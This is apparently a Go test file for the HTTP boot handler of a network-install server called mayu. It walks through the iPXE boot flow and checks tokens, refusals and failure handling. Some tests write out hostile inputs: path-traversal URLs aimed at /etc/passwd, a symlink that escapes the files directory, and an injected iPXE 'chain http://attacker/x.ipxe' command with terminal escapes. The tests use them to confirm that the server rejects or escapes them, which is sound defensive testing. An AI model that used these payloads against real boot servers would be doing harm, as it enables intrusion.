package httpboot_test

import (
	"bytes"
	"context"
	"encoding/hex"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus"

	"github.com/mayu-boot/mayu/internal/testfakes"
	"github.com/mayu-boot/mayu/pkg/config"
	"github.com/mayu-boot/mayu/pkg/httpboot"
	"github.com/mayu-boot/mayu/pkg/machine"
	"github.com/mayu-boot/mayu/pkg/registry"
	"github.com/mayu-boot/mayu/pkg/render"
)

// lab is mayu's HTTP side on an in-memory registry (the etcd-backed one is
// tested in package registry, the two together end to end), with the
// project's own example templates, driven by the tests as a node would
// drive it.
type lab struct {
	t     testing.TB
	srv   *httptest.Server
	reg   *testfakes.Machines
	prom  *prometheus.Registry
	image []byte
	files string
}

func newLab(t testing.TB, tweak func(*config.Cluster)) *lab {
	t.Helper()
	return newLabOn(t, tweak, nil)
}

// newLabOn serves the boot flow from what wrap makes of the in-memory
// registry (the registry itself if wrap is nil).
func newLabOn(t testing.TB, tweak func(*config.Cluster), wrap func(*testfakes.Machines) httpboot.Machines) *lab {
	t.Helper()
	return newLabWith(t, tweak, wrap, nil)
}

// newLabWith is newLabOn with more files in the files directory (name:
// contents, e.g. a template of the test's own). The Machines wrap makes
// count the installs if they can (registry.Registry).
func newLabWith(t testing.TB, tweak func(*config.Cluster), wrap func(*testfakes.Machines) httpboot.Machines, extra map[string]string) *lab {
	t.Helper()
	files := t.TempDir()
	for name, size := range map[string]int{"installer/vmlinuz": 4096, "installer/initrd.img": 8192, "images/os.img": 1 << 20} {
		writeFile(t, filepath.Join(files, name), bytes.Repeat([]byte(name[:3]), size/3))
	}
	for _, name := range []string{"first-stage.sh", "final-config.yaml", "final-config.ign.yaml"} {
		data, err := os.ReadFile(filepath.Join("..", "..", "etc", "templates", name))
		if err != nil {
			t.Fatal(err)
		}
		writeFile(t, filepath.Join(files, "templates", name), data)
	}
	for name, data := range extra {
		writeFile(t, filepath.Join(files, name), []byte(data))
	}
	cluster := config.Cluster{
		Static: config.Static{
			Subnet:  netip.MustParsePrefix("10.99.0.0/24"),
			Range:   config.Range{Start: netip.MustParseAddr("10.99.0.10"), End: netip.MustParseAddr("10.99.0.60")},
			Gateway: netip.MustParseAddr("10.99.0.1"),
			DNS:     []netip.Addr{netip.MustParseAddr("10.99.0.1")},
		},
		Profiles: []config.Profile{{Name: "core", Quantity: 1, Tags: map[string]string{"rule-core": "true"}}},
		Install: config.Install{Kernel: "installer/vmlinuz", Initrd: "installer/initrd.img", Image: "images/os.img",
			Disk: "/dev/vda", KernelArgs: "console=ttyS0", Timeout: time.Hour},
		Templates:    config.Templates{FirstStage: "templates/first-stage.sh", FinalConfig: "templates/final-config.yaml"},
		TemplateVars: map[string]string{"ssh_authorized_key": "ssh-ed25519 AAAA test", "ntp": "10.99.0.1"},
		Registration: config.RegistrationOpen,
	}
	if tweak != nil {
		tweak(&cluster)
	}
	root, err := os.OpenRoot(files)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { root.Close() })
	rend, err := render.New(root.FS(), cluster)
	if err != nil {
		t.Fatal(err)
	}
	reg := testfakes.NewMachines(cluster)
	reg.ReplicaName = "test-replica"
	var machines httpboot.Machines = reg
	if wrap != nil {
		machines = wrap(reg)
	}
	l := &lab{t: t, reg: reg, files: files, prom: prometheus.NewRegistry()}
	l.image, _ = os.ReadFile(filepath.Join(files, "images/os.img"))
	// The handler mayu serves, unwrapped: no mux in front of it that
	// would clean paths for it.
	l.srv = httptest.NewUnstartedServer(nil)
	l.srv.Start()
	t.Cleanup(l.srv.Close)
	installs, _ := machines.(httpboot.Installs)
	boot := httpboot.New(httpboot.Options{Machines: machines, Installs: installs, Renderer: rend, Files: root, Cluster: cluster,
		MayuURL: l.srv.URL, Log: slog.New(slog.NewTextHandler(io.Discard, nil)), Registerer: l.prom})
	l.srv.Config.Handler = boot.Handler()
	return l
}

func writeFile(t testing.TB, path string, data []byte) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, data, 0o644); err != nil {
		t.Fatal(err)
	}
}

// do sends a request and returns status and body.
func (l *lab) do(method, url string, header ...string) (int, string, http.Header) {
	l.t.Helper()
	if strings.HasPrefix(url, "/") {
		url = l.srv.URL + url
	}
	req, err := http.NewRequest(method, url, nil)
	if err != nil {
		l.t.Fatal(err)
	}
	for i := 0; i+1 < len(header); i += 2 {
		req.Header.Set(header[i], header[i+1])
	}
	resp, err := http.DefaultTransport.RoundTrip(req) // no redirects followed
	if err != nil {
		l.t.Fatal(err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(body), resp.Header
}

func (l *lab) expect(method, url string, want int, header ...string) string {
	l.t.Helper()
	code, body, _ := l.do(method, url, header...)
	if code != want {
		l.t.Fatalf("%s %s: got %d, want %d: %s", method, url, code, want, body)
	}
	return body
}

// script asks for the iPXE script as iPXE would, with the serial hex-encoded.
func (l *lab) script(serial, uuid, mac string) string {
	l.t.Helper()
	return l.expect("GET", "/ipxe?serial="+hex.EncodeToString([]byte(serial))+"&uuid="+uuid+"&mac="+mac+"&arch=x86_64", 200)
}

var firstStageRe = regexp.MustCompile(`mayu\.first_stage=(\S+)`)
var tokenRe = regexp.MustCompile(`mayu\.token=([0-9a-f]+)`)

func installerURLs(t *testing.T, script string) (firstStage, tok string) {
	t.Helper()
	m := firstStageRe.FindStringSubmatch(script)
	k := tokenRe.FindStringSubmatch(script)
	if m == nil || k == nil {
		t.Fatalf("not an installer script:\n%s", script)
	}
	return m[1], k[1]
}

// counter is the value of a counter of the lab's replica with the label
// value given (0 if it has no such series).
func (l *lab) counter(name, label string) float64 {
	l.t.Helper()
	mfs, err := l.prom.Gather()
	if err != nil {
		l.t.Fatal(err)
	}
	for _, mf := range mfs {
		if mf.GetName() != name {
			continue
		}
		for _, m := range mf.GetMetric() {
			for _, lp := range m.GetLabel() {
				if lp.GetValue() == label {
					return m.GetCounter().GetValue()
				}
			}
		}
	}
	return 0
}

func (l *lab) state(id string) machine.State {
	l.t.Helper()
	m, err := l.reg.Get(context.Background(), id)
	if err != nil {
		l.t.Fatal(err)
	}
	return m.State
}

func TestBootFlowAsANode(t *testing.T) {
	l := newLab(t, nil)
	chain := l.expect("GET", "/boot.ipxe", 200)
	if !strings.HasPrefix(chain, "#!ipxe") || !strings.Contains(chain, "${serial:hexraw}") {
		t.Fatalf("chain script:\n%s", chain)
	}

	script := l.script("LAB-SN-0001", "8f3a2b1c-4d5e-4f60-8a7b-9c0d1e2f3a4b", "52-54-00-12-34-56")
	firstStage, tok := installerURLs(t, script)
	if !strings.Contains(script, "kernel "+l.srv.URL+"/boot/kernel") || !strings.Contains(script, "console=ttyS0") {
		t.Fatalf("installer script:\n%s", script)
	}
	// An iPXE retry gets the same token.
	if _, tok2 := installerURLs(t, l.script("LAB-SN-0001", "8f3a2b1c-4d5e-4f60-8a7b-9c0d1e2f3a4b", "52-54-00-12-34-56")); tok2 != tok {
		t.Fatal("a retry got another token")
	}
	const id = "lab-sn-0001"
	if s := l.state(id); s != machine.Configured {
		t.Fatalf("state %s after the script", s)
	}

	// Installer kernel and initrd, with ETag revalidation and ranges.
	_, _, h := l.do("GET", "/boot/kernel")
	etag := h.Get("ETag")
	if etag == "" {
		t.Fatal("no ETag on /boot/kernel")
	}
	l.expect("GET", "/boot/kernel", 304, "If-None-Match", etag)
	if body := l.expect("GET", "/boot/initrd", 206, "Range", "bytes=0-9"); len(body) != 10 {
		t.Fatalf("range answered %d bytes", len(body))
	}

	fs := l.expect("GET", firstStage, 200)
	if !strings.HasPrefix(fs, "#!/bin/sh") || !strings.Contains(fs, "DISK='/dev/vda'") {
		t.Fatalf("first stage:\n%s", fs)
	}
	if s := l.state(id); s != machine.Installing {
		t.Fatalf("state %s after the first stage", s)
	}
	urls := map[string]string{}
	for _, name := range []string{"boot/image", "final-config", "installed", "failed"} {
		m := regexp.MustCompile(`'(http://[^']*` + name + `[^']*)'`).FindStringSubmatch(fs)
		if m == nil {
			t.Fatalf("first stage names no %s URL", name)
		}
		urls[name] = m[1]
	}
	if img := l.expect("GET", urls["boot/image"], 200); img != string(l.image) {
		t.Fatal("image differs from the file")
	}
	final := l.expect("GET", urls["final-config"], 200)
	for _, want := range []string{`address: "10.99.0.10/24"`, `gateway: "10.99.0.1"`, `profile: "core"`, `"metadata_rule-core": "true"`, "boot_complete_url: "} {
		if !strings.Contains(final, want) {
			t.Fatalf("final config lacks %q:\n%s", want, final)
		}
	}
	l.expect("POST", urls["installed"], 200)
	l.expect("POST", urls["installed"], 200) // a retried announcement is fine
	if s := l.state(id); s != machine.Installed {
		t.Fatalf("state %s after installed", s)
	}

	// Installed: the script request gets a local boot, never the installer,
	// and the token opens nothing but boot-complete.
	again := l.script("LAB-SN-0001", "8f3a2b1c-4d5e-4f60-8a7b-9c0d1e2f3a4b", "52-54-00-12-34-56")
	if strings.Contains(again, "kernel") || !strings.Contains(again, "\nexit") {
		t.Fatalf("installed machine got:\n%s", again)
	}
	l.expect("GET", firstStage, 403)
	l.expect("GET", urls["final-config"], 403)
	l.expect("POST", urls["failed"], 403)

	bootComplete := regexp.MustCompile(`boot_complete_url: "(\S+)"`).FindStringSubmatch(final)[1]
	l.expect("POST", bootComplete, 200)
	if s := l.state(id); s != machine.Running {
		t.Fatalf("state %s after boot-complete", s)
	}
	l.expect("POST", bootComplete, 200) // every later boot
	m, _ := l.reg.Get(context.Background(), id)
	if m.LastBoot.IsZero() || len(m.History) != 4 {
		t.Fatalf("last boot %v, history %+v", m.LastBoot, m.History)
	}
}

func TestRefusals(t *testing.T) {
	l := newLab(t, nil)
	fsA, tokA := installerURLs(t, l.script("SN-A", "", "52-54-00-00-00-0a"))
	_, tokB := installerURLs(t, l.script("SN-B", "", "52-54-00-00-00-0b"))

	noToken := strings.Split(fsA, "?")[0]
	l.expect("GET", noToken, 401)
	l.expect("GET", noToken+"?token="+tokB, 403) // another machine's token
	l.expect("GET", noToken+"?token="+strings.Repeat("0", 64), 403)
	l.expect("GET", noToken, 200, "Authorization", "Bearer "+tokA)

	l.expect("GET", "/machines/Not%20Valid/first-stage?token="+tokA, 400)
	l.expect("GET", "/machines/no-such-machine/first-stage?token="+tokA, 403)
	l.expect("POST", "/machines/sn-a/boot-complete?token="+tokA, 409) // not installed yet

	// "../" in every path and id: refused, never served, never a redirect.
	for _, p := range []string{
		"/boot/../../../etc/passwd",
		"/boot/kernel/../../etc/passwd",
		"/machines/../../etc/passwd/first-stage?token=" + tokA,
		"/machines/..%2f..%2fetc%2fpasswd/first-stage?token=" + tokA,
		"/machines/sn-a/../sn-b/first-stage?token=" + tokA,
		"/../etc/passwd",
		"/boot/%2e%2e/%2e%2e/etc/passwd",
		"/machines/%2e%2e/installed?token=" + tokA,
	} {
		code, body, _ := l.do("GET", p)
		if code < 400 || code >= 500 || strings.Contains(body, "root:") {
			t.Errorf("GET %s: %d %q", p, code, body)
		}
	}
	for _, serial := range []string{"../../etc/passwd", "..", "a/b", "x\x00y", "SN WITH SPACES", strings.Repeat("a", 65)} {
		s := l.script(serial, "", "")
		if strings.Contains(s, "kernel") || !strings.Contains(s, "cannot be identified") {
			t.Errorf("serial %q got:\n%s", serial, s)
		}
	}
	if s := l.expect("GET", "/ipxe?serial=zz", 200); !strings.Contains(s, "not hex") {
		t.Errorf("bad hex got:\n%s", s)
	}
	if s := l.expect("GET", "/ipxe?mac=not-a-mac", 200); !strings.Contains(s, "not valid") {
		t.Errorf("bad mac got:\n%s", s)
	}
	// Hostile sizes never reach a record.
	if s := l.expect("GET", "/ipxe?serial="+hex.EncodeToString([]byte("SN-A"))+"&uuid="+strings.Repeat("a", 5000), 200); !strings.Contains(s, "is not a UUID") {
		t.Errorf("long uuid got:\n%s", s)
	}
	if s := l.expect("GET", "/ipxe?serial="+strings.Repeat("41", 5000), 200); !strings.Contains(s, "longer than") {
		t.Errorf("long serial got:\n%s", s)
	}
	ms, _, _ := l.reg.List(context.Background())
	if len(ms) != 2 {
		t.Fatalf("refused requests registered machines: %d", len(ms))
	}
}

func TestPlaceholderSerialFallsBackToUUIDThenMAC(t *testing.T) {
	l := newLab(t, nil)
	installerURLs(t, l.script("0123456789", "8F3A2B1C-4D5E-4F60-8A7B-9C0D1E2F3A4B", "52:54:00:12:34:56"))
	installerURLs(t, l.script("To Be Filled By O.E.M.", "00000000-0000-0000-0000-000000000000", "52:54:00:12:34:57"))
	for _, id := range []string{"8f3a2b1c-4d5e-4f60-8a7b-9c0d1e2f3a4b", "52-54-00-12-34-57"} {
		if _, err := l.reg.Get(context.Background(), id); err != nil {
			t.Error(err)
		}
	}
	// The same NIC with a now-readable serial is still the same machine.
	installerURLs(t, l.script("", "", "52:54:00:12:34:57"))
	if ms, _, _ := l.reg.List(context.Background()); len(ms) != 2 {
		t.Fatalf("%d machines", len(ms))
	}
}

func TestPreregisteredOnly(t *testing.T) {
	l := newLab(t, func(c *config.Cluster) { c.Registration = config.RegistrationPreregistered })
	s := l.script("STRAY-1", "", "52-54-00-00-00-01")
	if strings.Contains(s, "kernel") || !strings.Contains(s, "mayuctl add stray-1") {
		t.Fatalf("stray machine got:\n%s", s)
	}
	if ms, _, _ := l.reg.List(context.Background()); len(ms) != 0 {
		t.Fatal("a stray machine was registered")
	}
	// Pre-registered by MAC under an operator's id: found by its MAC.
	if _, _, err := l.reg.Register(context.Background(), registry.Registration{ID: "rack1-u7", MACs: []string{"52:54:00:00:00:01"}, Preregistered: true}); err != nil {
		t.Fatal(err)
	}
	installerURLs(t, l.script("STRAY-1", "", "52-54-00-00-00-01"))
}

func TestFailedInstallWaitsForReinstall(t *testing.T) {
	l := newLab(t, nil)
	fs, tok := installerURLs(t, l.script("SN-F", "", "52-54-00-00-00-0f"))
	body := l.expect("GET", fs, 200)
	failed := regexp.MustCompile(`'(http://[^']*/failed[^']*)'`).FindStringSubmatch(body)[1]
	req, _ := http.NewRequest("POST", failed, strings.NewReader("disk /dev/vda not found"))
	resp, err := http.DefaultClient.Do(req)
	if err != nil || resp.StatusCode != 200 {
		t.Fatal(err, resp)
	}
	m, _ := l.reg.Get(context.Background(), "sn-f")
	if m.State != machine.Failed || !strings.Contains(m.FailReason, "disk /dev/vda not found") {
		t.Fatalf("%s %q", m.State, m.FailReason)
	}
	// No install loop: the machine waits, saying why.
	s := l.script("SN-F", "", "52-54-00-00-00-0f")
	if strings.Contains(s, "kernel") || !strings.Contains(s, "mayuctl reinstall sn-f") {
		t.Fatalf("failed machine got:\n%s", s)
	}
	if _, err := l.reg.Update(context.Background(), "sn-f", func(m *machine.Machine) error {
		return m.Reinstall("operator", time.Now())
	}); err != nil {
		t.Fatal(err)
	}
	fs2, tok2 := installerURLs(t, l.script("SN-F", "", "52-54-00-00-00-0f"))
	if tok2 == tok {
		t.Fatal("reinstall did not rotate the token")
	}
	l.expect("GET", fs, 403) // the old token is dead
	l.expect("GET", fs2, 200)
}

func TestFilesStayInsideTheFilesDirectory(t *testing.T) {
	outside := filepath.Join(t.TempDir(), "secret")
	writeFile(t, outside, []byte("root:x:0:0"))
	l := newLab(t, func(c *config.Cluster) { c.Install.Image = "images/link.img" })
	if err := os.Symlink(outside, filepath.Join(l.files, "images/link.img")); err != nil {
		t.Fatal(err)
	}
	code, body, _ := l.do("GET", "/boot/image")
	if code == 200 || strings.Contains(body, "root:") {
		t.Fatalf("a symlink out of the files directory was served: %d %q", code, body)
	}
	os.Remove(filepath.Join(l.files, "installer/vmlinuz"))
	if code, body, _ := l.do("GET", "/boot/kernel"); code != 404 || !strings.Contains(body, "cluster.install.kernel") {
		t.Fatalf("missing kernel: %d %q", code, body)
	}
}

// With etcd unreachable, iPXE gets a script that waits and retries (never
// an installer or a local boot decided blind), node calls get 503, and the
// boot files are still served.
func TestStateStoreUnavailable(t *testing.T) {
	l := newLabOn(t, nil, func(*testfakes.Machines) httpboot.Machines { return testfakes.BrokenMachines{} })
	body := l.expect("GET", "/ipxe?serial="+hex.EncodeToString([]byte("SN-BROKEN"))+"&mac=52:54:00:00:00:09", http.StatusOK)
	if !strings.Contains(body, "sleep") || strings.Contains(body, "kernel ") {
		t.Fatalf("with etcd down, /ipxe answered:\n%s", body)
	}
	code, msg, _ := l.do("POST", "/machines/sn-broken/installed?token=x")
	if code != http.StatusServiceUnavailable || !strings.Contains(msg, "retry") {
		t.Fatalf("node call with etcd down: %d %s", code, msg)
	}
	if got := l.expect("GET", "/boot/image", http.StatusOK); got != string(l.image) {
		t.Fatal("the OS image was not served with etcd down")
	}
}

// A store slower than the client's patience: the client's cancel ends the
// call, and a later one succeeds.
func TestStateStoreSlow(t *testing.T) {
	l := newLabOn(t, nil, func(m *testfakes.Machines) httpboot.Machines {
		return testfakes.SlowMachines{Machines: m, Delay: 300 * time.Millisecond}
	})
	ctx, cancel := context.WithTimeout(context.Background(), 50*time.Millisecond)
	defer cancel()
	req, _ := http.NewRequestWithContext(ctx, "GET", l.srv.URL+"/ipxe?serial="+hex.EncodeToString([]byte("SN-SLOW")), nil)
	if _, err := http.DefaultClient.Do(req); err == nil {
		t.Fatal("a call that outlasted its client's deadline answered")
	}
	body := l.expect("GET", "/ipxe?serial="+hex.EncodeToString([]byte("SN-SLOW")), http.StatusOK)
	if !strings.Contains(body, "kernel ") {
		t.Fatalf("after the store answered, /ipxe gave no installer:\n%s", body)
	}
}

// The review's finding: a failure reason came back as an iPXE command on
// every later boot. What a machine sends (serial, architecture, failure
// reason) is stored escaped, and its iPXE script echoes it through the
// allow-list only.
func TestNodeTextNeverBecomesACommand(t *testing.T) {
	l := newLab(t, nil)
	const uuid = "8f3a2b1c-4d5e-4f60-8a7b-9c0d1e2f3a4b"
	const id = uuid // a VMware serial is not unique: the UUID stands in
	q := "/ipxe?serial=" + hex.EncodeToString([]byte("VMware-\x1b[31mred\x07")) + "&uuid=" + uuid +
		"&mac=52-54-00-00-00-e1&arch=" + url.QueryEscape("x86_64\x1b]0;pwned\x07")
	fs, _ := installerURLs(t, l.expect("GET", q, 200))
	body := l.expect("GET", fs, 200)
	failed := regexp.MustCompile(`'(http://[^']*/failed[^']*)'`).FindStringSubmatch(body)[1]
	req, _ := http.NewRequest("POST", failed, strings.NewReader("disk error && chain http://attacker/x.ipxe #\x1b[2J"))
	resp, err := http.DefaultClient.Do(req)
	if err != nil || resp.StatusCode != 200 {
		t.Fatal(err, resp)
	}
	m, err := l.reg.Get(context.Background(), id)
	if err != nil {
		t.Fatal(err)
	}
	stored := []string{m.Serial, m.Arch, m.FailReason, m.History[len(m.History)-1].Reason}
	for _, s := range stored {
		if strings.ContainsAny(s, "\x1b\x07") {
			t.Errorf("stored raw: %q", s)
		}
	}
	if m.Serial != `VMware-\x1b[31mred\x07` || m.Arch != `x86_64\x1b]0;pwned\x07` ||
		m.FailReason != `installer reported: disk error && chain http://attacker/x.ipxe #\x1b[2J` {
		t.Errorf("stored %q", stored)
	}
	// Every later boot: the reason is echoed, never run.
	s := l.expect("GET", q, 200)
	for _, line := range strings.Split(s, "\n") {
		if strings.Contains(line, "attacker") && (!strings.HasPrefix(line, "echo mayu: ") || strings.ContainsAny(line, "&#$\\")) {
			t.Fatalf("the failure reason reached the script as more than text:\n%s", s)
		}
	}
	if !strings.Contains(s, "disk error __ chain http://attacker/x.ipxe") {
		t.Fatalf("the reason is not shown:\n%s", s)
	}
}
